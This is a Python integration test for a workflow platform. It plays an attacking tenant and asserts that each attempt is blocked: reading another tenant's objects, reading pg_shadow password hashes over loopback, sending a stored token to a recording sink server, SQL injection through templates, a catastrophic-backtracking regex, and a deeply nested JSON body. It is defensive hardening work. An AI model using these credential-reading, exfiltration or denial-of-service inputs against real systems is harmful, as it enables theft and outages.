"""An attacker's afternoon: one tenant, with an admin token of its own, drives a live
platform (the control plane, real function servers, the relay) through the REST API and
tries each class of the hardening audit in turn. Every attempt fails with a clear error,
and nothing of the platform, of the other tenant or of a secret leaks. Each class has
its own thorough tests too (named below); this one is the story end to end."""

from __future__ import annotations

from pathlib import Path

import pytest
from cp_support import api, manual_then, project, workflow

from support import LocalHttp, Reply, all_processes, platform, wait_for_job

pytestmark = pytest.mark.slow
FUNCTIONS = ["Http.request", "Database.query", "Transform"]


class Sink(LocalHttp):
    """Where a stolen secret would land: it records every request it gets."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, dict[str, str]]] = []
        super().__init__(self._respond)

    def _respond(self, method: str, path: str, headers: dict[str, str], body: bytes) -> Reply:
        self.seen.append((path, headers))
        return 200, {"content-type": "application/json"}, b"{}"


async def run(client, steps: list[dict], payload: object = None) -> dict:
    flow = await workflow(client, steps, name=f"attempt {steps[-1]['key']}")
    started = await client.post(f"/v1/workflows/{flow['id']}/jobs", json={"payload": payload})
    assert started.status_code == 201, started.text
    job = await wait_for_job(client, started.json()["id"])
    return {p["step_key"]: p for p in await all_processes(client, job["id"])} | {"job": job}


def attempt(key: str, function: str, config: dict) -> list[dict]:
    return [{"key": "start", "function": "Manual", "next": key},
            {"key": key, "function": function, "config": config, "output": None}]


async def test_an_attacker_gets_nothing(database_url: str, tmp_path: Path) -> None:
    # as in production: no private network allowed to tenants (the tests' default allows
    # loopback, for their local APIs)
    with Sink() as sink, platform(database_url, FUNCTIONS, tmp_path,
                                  env={"STEPLINE_HTTP_ALLOW_CIDRS": ""}):
        async with api(database_url) as a:
            _, victim = await a.account("victim")
            _, attacker = await a.account("attacker")
            victim_flow = await workflow(victim, manual_then(), name="secret flow")
            victim_job = (await victim.post(f"/v1/workflows/{victim_flow['id']}/jobs",
                                            json={"payload": {"card": "4111"}})).json()

            # tenancy (test_tenancy.py): another account's objects are 404, never 403
            for path in (f"/v1/workflows/{victim_flow['id']}", f"/v1/jobs/{victim_job['id']}",
                         f"/v1/jobs/{victim_job['id']}/processes",
                         f"/v1/steps/{victim_flow['steps'][0]['id']}"):
                assert (await attacker.get(path)).status_code == 404, path

            # privilege (test_operator_accounts.py): a tenant makes no account
            made = await attacker.post("/v1/accounts", json={"name": "mine", "is_operator": True})
            assert made.status_code == 403

            # the platform's database through a tenant connection (test_database_guard.py)
            socket = await attacker.post("/v1/connections", json={
                "name": "sock", "kind": "postgres",
                "config": {"host": "/var/run/postgresql", "dbname": "postgres", "user": "postgres"},
                "secret": {"password": ""}})
            assert socket.status_code == 422 and "config.host" in socket.text
            loopback = await attacker.post("/v1/connections", json={
                "name": "platform", "kind": "postgres",
                "config": {"host": "127.0.0.1", "dbname": "postgres", "user": "postgres"},
                "secret": {"password": ""}})
            assert loopback.status_code == 201, loopback.text
            read = await run(attacker, attempt("read", "Database.query", {
                "connection": "platform", "sql": "SELECT usename, passwd FROM pg_shadow"}))
            assert read["read"]["status"] == "failed" and read["read"]["output"] is None
            assert "private, loopback or link-local" in read["read"]["error"]["message"]

            # SQL templated into the text (test_sql_verbatim.py, test_validation.py)
            p = await project(attacker, "sqli")
            templated = await attacker.post("/v1/workflows", json={
                "project_id": p, "name": "sqli", "steps": attempt("q", "Database.query", {
                    "connection": "platform", "sql": "SELECT {{ payload.x }}"})})
            assert templated.status_code == 422 and "config.sql" in templated.text

            # a connection's secret sent elsewhere (test_outbound.py)
            await attacker.post("/v1/connections", json={
                "name": "api", "kind": "http", "config": {"base_url": "https://api.example.com"},
                "secret": {"token": "attackers-own-token"}})
            stolen = await run(attacker, attempt("steal", "Http.request", {
                "connection": "api", "url": f"{sink.base}/collect"}))
            assert stolen["steal"]["status"] == "failed"
            assert "its credentials go nowhere else" in stolen["steal"]["error"]["message"]
            assert sink.seen == []

            # a pattern that would backtrack for ever (test_bounded_input.py), and a body
            # nested to blow the parser's stack
            hook = await workflow(attacker, [{"key": "in", "function": "Webhook", "config": {
                "payload_schema": {"properties": {"s": {"pattern": "^(a+)+$"}}}},
                "output": None}], name="hook")
            step = hook["steps"][0]["id"]
            bomb = await attacker.post(f"/v1/hooks/{step}", json={"s": "a" * 50_000 + "!"})
            assert bomb.status_code == 422
            deep = await attacker.post(f"/v1/hooks/{step}", content=b"[" * 100_000,
                                       headers={"content-type": "application/json"})
            assert 400 <= deep.status_code < 500

            # a runaway expression (test_bounded_steps.py) fails its own step only
            slow = await run(attacker, attempt("slow", "Transform", {
                "expression": "|".join(["[@, @][]"] * 40)}), payload=[0])
            assert slow["slow"]["status"] == "failed", slow["slow"]
            assert "exceeded" in slow["slow"]["error"]["message"]

            # and the victim's job was never touched
            mine = (await victim.get(f"/v1/jobs/{victim_job['id']}")).json()
            assert mine["account_id"] != (await attacker.get("/v1/me")).json()["account_id"]
